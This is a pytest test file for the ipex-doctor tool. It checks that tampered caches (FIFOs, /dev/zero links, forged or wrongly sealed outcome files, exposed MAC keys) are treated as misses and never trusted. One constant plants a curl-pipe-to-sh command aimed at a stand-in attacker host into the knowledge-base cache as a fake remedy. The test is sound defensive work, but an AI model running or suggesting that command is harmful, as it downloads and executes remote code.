"""The doctor's caches under ``$XDG_CACHE_HOME/ipex-doctor`` (the knowledge base's, scan's
derived values, scan's outcomes) as an attacker leaves them: a CI cache restored from another
run, or a cache directory another user may write. Real doctor processes on real files.

What a cache holds is taken only from a regular file of this user's that nobody else may
write, within a size: anything else is a miss (the work is done again), never a wait, a crash
or another's word in the report.
"""

from __future__ import annotations

import json
import os
import resource
import stat
import subprocess
import sys
import zlib
from collections.abc import Callable
from hashlib import blake2b
from pathlib import Path

import pytest
from conftest import doctor_env

TRAIN = (
    "import torch\nimport intel_extension_for_pytorch as ipex\n"
    "model = ipex.optimize(model)\nx = torch.xpu.amp.autocast()\n"
)
KINDS = ("kb", "scan", "scan-derived")


def _limited_memory() -> None:
    """Run in the child: 4 GiB of address space, so a reader without a bound fails fast
    (MemoryError) instead of taking the machine's memory."""
    resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))


def _doctor(cache: Path, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The doctor with ``cache`` as ``XDG_CACHE_HOME`` (and its private state, the seal's
    key, beside it), under a memory limit; a doctor that waits on a cache file is stopped at
    the timeout (the test then fails)."""
    return subprocess.run(
        [sys.executable, "-m", "ipex_doctor", *args], capture_output=True, text=True,
        timeout=240, env=doctor_env(_homes(cache)), cwd=cwd,
        stdin=subprocess.DEVNULL, preexec_fn=_limited_memory, check=False,
    )  # fmt: skip


def _homes(cache: Path) -> dict[str, str]:
    return {"XDG_CACHE_HOME": str(cache), "XDG_STATE_HOME": str(cache.parent / "state")}


def _cached(tmp_path: Path) -> tuple[Path, Path, subprocess.CompletedProcess[str]]:
    """A tree scanned once with an empty cache: the tree, the cache, and the honest outcome
    (every kind of cache file written)."""
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "train.py").write_text(TRAIN)
    cache = tmp_path / "cache"
    honest = _doctor(cache, "scan", ".", "-q", cwd=tree)
    assert honest.returncode == 1 and "xpu-amp-autocast" in honest.stdout, honest.stderr
    for kind in KINDS:
        assert list((cache / "ipex-doctor" / kind).glob("*.json")), kind
    return tree, cache, honest


def _files(cache: Path) -> list[Path]:
    return [path for kind in KINDS for path in (cache / "ipex-doctor" / kind).glob("*.json")]


@pytest.mark.parametrize("plant", ["fifo", "dev-zero"])
def test_a_cache_file_that_never_opens_or_never_ends_is_a_miss(tmp_path: Path, plant: str) -> None:
    """Every cache file swapped for a FIFO no one writes, or a link to /dev/zero: the scan
    and explain do their work again and say what they said before. Before, the FIFO's read
    waited forever, and /dev/zero was read until memory ran out (exit 3, MemoryError)."""
    tree, cache, honest = _cached(tmp_path)
    for path in _files(cache):
        path.unlink()
        if plant == "fifo":
            os.mkfifo(path)
        else:
            path.symlink_to("/dev/zero")
    again = _doctor(cache, "scan", ".", "-q", cwd=tree)
    assert (again.returncode, again.stdout) == (honest.returncode, honest.stdout), again.stderr
    explained = _doctor(cache, "explain", "RuntimeError: XPU out of memory", cwd=tree)
    assert explained.returncode in (0, 1) and "Traceback" not in explained.stderr, explained.stderr


def _forged(cache: Path, seal: Callable[[str], str]) -> Path:
    """The scan's outcome file, its outcomes forged to hold no match and sealed by ``seal``:
    a scan that took them would report nothing (a miss that passes the gate)."""
    (path,) = (cache / "ipex-doctor" / "scan").glob("*.json")
    body, _, _ = path.read_text().rpartition("\n")
    data = json.loads(body)
    for entry in data["files"].values():
        entry[2] = []
    path.write_text(seal(json.dumps(data)))
    return path


def _own_seal(cache: Path) -> Callable[[str], str]:
    """Seal as the doctor run by ``_doctor(cache, ...)`` does: this user's own key."""

    def seal(body: str) -> str:
        saved = {name: os.environ.get(name) for name in ("XDG_CACHE_HOME", "XDG_STATE_HOME")}
        os.environ.update(_homes(cache))
        try:
            from ipex_doctor.knowledge import cache as knowledge_cache

            return knowledge_cache.seal_text(body)
        finally:
            for name, value in saved.items():
                if value is None:
                    os.environ.pop(name, None)
                else:
                    os.environ[name] = value

    return seal


def _unsealed(body: str) -> str:
    return body


def _crc_sealed(body: str) -> str:
    return f"{body}\n{zlib.crc32(body.encode()):08x}"


def _other_key_sealed(body: str) -> str:
    return f"{body}\n{blake2b(body.encode(), key=os.urandom(32), digest_size=32).hexdigest()}"


@pytest.mark.parametrize("seal", [_unsealed, _crc_sealed, _other_key_sealed])
def test_outcomes_restored_from_elsewhere_are_not_taken(
    tmp_path: Path, seal: Callable[[str], str]
) -> None:
    """The outcome file forged to hide every finding, this user's own and closed to others,
    as a cache restored from elsewhere brings it (a CI cache of ``~/.cache`` shared between
    jobs): plain, with a checksum anyone computes, or sealed under another key. The tree is
    read again and the findings are reported. Before, any of them was taken: exit 0, nothing
    found."""
    tree, cache, honest = _cached(tmp_path)
    _forged(cache, seal)
    again = _doctor(cache, "scan", ".", "-q", cwd=tree)
    assert (again.returncode, again.stdout) == (honest.returncode, honest.stdout), again.stderr


@pytest.mark.parametrize("whose", ["open-to-others", "another-users"])
def test_outcomes_another_user_could_have_written_are_not_taken(tmp_path: Path, whose: str) -> None:
    """The outcome file forged to hide every finding, and left writable by others (a cache
    directory shared with them) or owned by another user: the tree is read again and the
    findings are reported. Before, the forged outcomes were taken: exit 0, nothing found."""
    if whose == "another-users" and os.geteuid() != 0:
        pytest.skip("giving a file to another user needs root")
    tree, cache, honest = _cached(tmp_path)
    forged = _forged(cache, _own_seal(cache))
    if whose == "open-to-others":
        forged.chmod(0o666)
    else:
        os.chown(forged, 65534, 65534)
    again = _doctor(cache, "scan", ".", "-q", cwd=tree)
    assert (again.returncode, again.stdout) == (honest.returncode, honest.stdout), again.stderr


def test_outcomes_of_this_users_own_cache_are_still_taken(tmp_path: Path) -> None:
    """The same forged file, but this user's own, closed to others and sealed with this
    user's private key, is taken (the cache is this user's word): the checks above are about
    who wrote it, not what it says."""
    tree, cache, _ = _cached(tmp_path)
    _forged(cache, _own_seal(cache))
    again = _doctor(cache, "scan", ".", "-q", cwd=tree)
    assert again.returncode == 0 and "xpu-amp-autocast" not in again.stdout, again.stderr


def test_import_words_forged_onto_a_file_that_is_not_python_are_not_read(tmp_path: Path) -> None:
    """The outcome file, this user's own and sealed, edited so that a requirements file's
    outcome says it imports ``ipex`` from ``hw`` (an outcome only a Python file has): the scan
    reads files by their kind, so no traceback, the same findings as before."""
    tree, cache, _ = _cached(tmp_path)
    (tree / "hw.py").write_text("import intel_extension_for_pytorch as ipex\n")
    (tree / "requirements.txt").write_text("torch\n")
    honest = _doctor(cache, "scan", ".", "-q", "--json", "-", cwd=tree)
    (path,) = (cache / "ipex-doctor" / "scan").glob("*.json")
    body, _, _ = path.read_text().rpartition("\n")
    data = json.loads(body)
    (entry,) = [e for key, e in data["files"].items() if key.endswith("requirements.txt")]
    entry[7:] = [["hw:ipex"]]  # NOTE: Outcome.imports, the entry's eighth field
    path.write_text(_own_seal(cache)(json.dumps(data)))
    again = _doctor(cache, "scan", ".", "-q", "--json", "-", cwd=tree)
    assert "Traceback" not in again.stderr, again.stderr
    assert again.returncode == honest.returncode
    findings = [(f["id"], f["location"]) for f in json.loads(again.stdout)["findings"]]
    assert findings == [(f["id"], f["location"]) for f in json.loads(honest.stdout)["findings"]]


EXPLAINED = "ImportError: undefined symbol: iJIT_NotifyEvent"
"""A text ``explain`` names from the shipped knowledge base (``oneapi-runtime-libs``)."""
HONEST_FIX = "install the oneAPI version the release names"
PLANTED_FIX = "PLANTED: curl https://attacker.example/x | sh"


def _explain(home: Path) -> subprocess.CompletedProcess[str]:
    """``explain EXPLAINED`` with its cache and private state under ``home``."""
    return subprocess.run(
        [sys.executable, "-m", "ipex_doctor", "explain", EXPLAINED], capture_output=True,
        text=True, timeout=240, check=False, stdin=subprocess.DEVNULL,
        env=doctor_env({"XDG_CACHE_HOME": str(home / "cache"),
                        "XDG_STATE_HOME": str(home / "state")}),
    )  # fmt: skip


def _plant(home: Path, seal: Callable[[str], str]) -> None:
    """Rewrite every kept knowledge-base file, this user's own and closed to others (a cache
    restored from elsewhere), so that its remedy is the attacker's, sealed by ``seal``."""
    kept = list((home / "cache" / "ipex-doctor" / "kb").glob("*.json"))
    assert kept
    for path in kept:
        data = json.loads(path.read_text().rpartition("\n")[0])
        entries = json.dumps(data["entries"])
        assert HONEST_FIX in entries
        data["entries"] = json.loads(entries.replace(HONEST_FIX, PLANTED_FIX))
        path.write_text(seal(json.dumps(data)))


def _crc_sealed(body: str) -> str:
    """Sealed as anyone can: the body's CRC-32, all the seal once was."""
    return f"{body}\n{zlib.crc32(body.encode('utf-8', 'surrogatepass')):08x}"


def test_a_restored_knowledge_cache_sealed_by_a_public_checksum_is_not_taken(
    tmp_path: Path,
) -> None:
    """A knowledge-base cache restored as this user's own from elsewhere (a CI cache of
    ``~/.cache`` shared between jobs), its remedy rewritten and its checksum recomputed, as
    anyone can: ``explain`` still gives the shipped remedy, and keeps working. Before, the
    planted remedy was printed as the fix."""
    honest = _explain(tmp_path)
    assert honest.returncode == 0 and HONEST_FIX in honest.stdout, honest.stderr
    _plant(tmp_path, _crc_sealed)
    again = _explain(tmp_path)
    assert PLANTED_FIX not in again.stdout
    assert (again.returncode, again.stdout) == (honest.returncode, honest.stdout), again.stderr
    assert _explain(tmp_path).stdout == honest.stdout  # NOTE: the miss kept it again, honest


@pytest.mark.parametrize("how", ["key-open-to-others", "state-dir-open-to-others"])
def test_a_knowledge_cache_whose_key_is_not_private_is_not_used(tmp_path: Path, how: str) -> None:
    """The MAC's key readable by others (or its directory open to them): whoever read it could
    seal a cache, so none is taken, even one sealed with that very key, and none is written;
    ``explain`` does the work again and says the same."""
    honest = _explain(tmp_path)
    key_file = tmp_path / "state" / "ipex-doctor" / "cache-key"
    key = key_file.read_bytes()
    assert len(key) == 32 and stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(key_file.parent.stat().st_mode) == 0o700
    if how == "key-open-to-others":
        key_file.chmod(0o644)
    else:
        key_file.parent.chmod(0o755)

    def key_sealed(body: str) -> str:
        return f"{body}\n{blake2b(body.encode(), key=key, digest_size=32).hexdigest()}"

    _plant(tmp_path, key_sealed)
    stamps = {p: p.stat().st_mtime_ns for p in (tmp_path / "cache").rglob("*.json")}
    again = _explain(tmp_path)
    assert PLANTED_FIX not in again.stdout
    assert (again.returncode, again.stdout) == (honest.returncode, honest.stdout), again.stderr
    assert {p: p.stat().st_mtime_ns for p in (tmp_path / "cache").rglob("*.json")} == stamps
    assert key_file.read_bytes() == key  # NOTE: never replaced behind the user's back
